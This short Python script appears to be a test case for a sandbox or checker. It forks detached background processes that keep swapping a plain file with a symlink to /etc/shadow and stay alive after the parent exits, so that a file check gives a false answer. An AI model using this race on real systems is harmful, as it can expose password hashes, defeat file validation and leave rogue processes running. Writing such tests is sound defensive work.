# Make the answer lie: processes that go on exchanging a file for a link while the run ends.
import os
import time

open("/work/good", "w").write("good")
os.symlink("/etc/shadow", "/work/evil")
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            for source, target in (("good", "x"), ("evil", "good"), ("good", "evil"), ("x", "good")):
                try:
                    os.rename("/work/" + source, "/work/" + target)
                except OSError:
                    pass
time.sleep(0.2)
print("OUTCOME: exchanging", flush=True)
os._exit(0)
